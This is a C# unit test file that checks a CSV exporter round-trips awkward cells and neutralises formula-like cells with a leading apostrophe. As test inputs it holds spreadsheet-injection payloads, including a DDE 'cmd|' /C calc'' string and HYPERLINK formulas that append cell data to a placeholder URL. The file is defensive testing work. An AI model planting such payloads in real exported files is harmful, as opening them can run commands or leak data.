using System;
using System.IO;
using System.Linq;
using System.Text;
using FsCheck.Xunit;
using KazChina.Model.Cli;
using KazChina.Model.Exports;
using Xunit;

namespace KazChina.Model.Tests.Cli;

public class CsvExportTests
{
    [Property(Arbitrary = [typeof(Generators)], MaxTest = 30)]
    public void WriteTable_AnyEdition_ReadsBackAsTheSameTables(KazChinaEdition edition)
    {
        foreach (RelationalTable table in edition.ToRelationalTables())
        {
            using var stream = new MemoryStream();
            CsvPackageExport.WriteTable(table, stream, rawCells: true);
            Assert.Equal(CsvTables.TextOf(table), CsvTables.Read(table.Name, stream.ToArray()));
        }
    }

    [Fact]
    public void WriteTable_FormulaLikeCellsInTypedColumns_NeutralisesTextOnlySoNumbersStayNumbers()
    {
        var definition = new TableDefinition(
            "cells",
            "Cells that start like formulas.",
            ValueList.Create(new ColumnDefinition("id", ColumnType.Text, false, "The id."), new ColumnDefinition("amount", ColumnType.Decimal, true, "An amount.")),
            ValueList.Create("id"),
            ValueList.Empty<ForeignKey>());
        var table = new RelationalTable(definition, [["-1+1", -12.5m], ["=SUM(A1)", null]]);
        using var stream = new MemoryStream();

        CsvPackageExport.WriteTable(table, stream, rawCells: false);

        FlatTable read = CsvTables.Read("cells", stream.ToArray());
        Assert.Equal(["'-1+1", "'=SUM(A1)"], read.Rows.Select(r => r[0]));
        Assert.Equal(["-12.5", ""], read.Rows.Select(r => r[1]));
    }

    [Fact]
    public void Write_RawCellsWithSeparatorsQuotesLineBreaksAndSpaces_ReadBackUnchanged()
    {
        string[] cells = ["a,b", "say \"hi\"", "two\r\nlines", "lf\nonly", " padded ", "", "=1+1", "Kazakhstan’s … 136.14", "-5"];
        var table = new FlatTable(
            "tricky",
            cells.Select((_, i) => "c" + i).ToValueList(),
            ValueList.Create(cells.ToValueList(), cells.Reverse().ToValueList()));

        Assert.Equal(table, CsvTables.Read("tricky", Write(table, rawCells: true)));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")")]
    [InlineData("+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("-")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("-1.")]
    [InlineData("-.5")]
    [InlineData("-1e5")]
    public void Write_CellASpreadsheetWouldRun_GetsALeadingApostrophe(string cell)
    {
        FlatTable table = WithCell(cell);

        FlatTable read = CsvTables.Read("cells", Write(table, rawCells: false));

        Assert.Equal(["'" + cell, "plain"], read.Rows.Select(r => r[0]));
    }

    [Theory]
    [InlineData("-12.5")]
    [InlineData("-3")]
    [InlineData("0")]
    [InlineData("136.14")]
    [InlineData("x=1")]
    [InlineData("a-b")]
    [InlineData(" =1")]
    [InlineData("")]
    public void Write_NumberOrTextThatCannotRun_IsWrittenAsItIs(string cell)
    {
        FlatTable table = WithCell(cell);

        FlatTable read = CsvTables.Read("cells", Write(table, rawCells: false));

        Assert.Equal(table, read);
    }

    [Fact]
    public void ExportCsv_EditionWithAFormulaTitle_NeutralisesItUnlessRawCellsAreAsked()
    {
        const string Formula = "=HYPERLINK(\"http://example.invalid\",\"Open\")";
        using var folder = new TemporaryFolder();
        string path = EditionFiles.Write(folder, "edited.json", HostileText.EditionWithAgreementTitle(Formula));

        CliResult files = CliRun.Run("export", "--format", "csv", "--edition", path, "--out", folder["tables"]);
        CliResult raw = CliRun.Run("export", "--format", "csv", "--edition", path, "--raw-cells");

        Assert.Equal(ExitCodes.Success, files.ExitCode);
        FlatTable agreements = CsvTables.Read("agreements", File.ReadAllBytes(Path.Combine(folder["tables"], "agreements.csv")));
        Assert.Contains("'" + Formula, Enumerable.Range(0, agreements.Rows.Count).Select(row => agreements.Cell(row, "title")));
        Assert.Equal(ExitCodes.Success, raw.ExitCode);
        Assert.Equal(HostileText.EditionWithAgreementTitle(Formula).ToFactsTable(), CsvTables.Read("facts", Encoding.UTF8.GetBytes(raw.Output)));
    }

    /// <summary>A table with the cell in its first column; two columns, as every export has, so the reader's delimiter detection settles on the comma.</summary>
    private static FlatTable WithCell(string cell) =>
        new("cells", ValueList.Create("value", "id"), ValueList.Create(ValueList.Create(cell, "a"), ValueList.Create("plain", "b")));

    [Fact]
    public void Files_CurrentEdition_AreTheSchemaTablesThenTheDataPackage()
    {
        var files = CsvPackageExport.Files(KazChinaEdition.Current, rawCells: false);

        Assert.Equal([.. EditionDatabase.Schema.Select(t => t.Name + ".csv"), "datapackage.json"], files.Select(f => f.FileName));
        Assert.Equal(files.Select(f => f.FileName).Order(StringComparer.Ordinal), CsvPackageExport.FileNames.Order(StringComparer.Ordinal));
    }

    private static byte[] Write(FlatTable table, bool rawCells)
    {
        using var stream = new MemoryStream();
        CsvExport.Write(table, stream, rawCells);
        return stream.ToArray();
    }
}
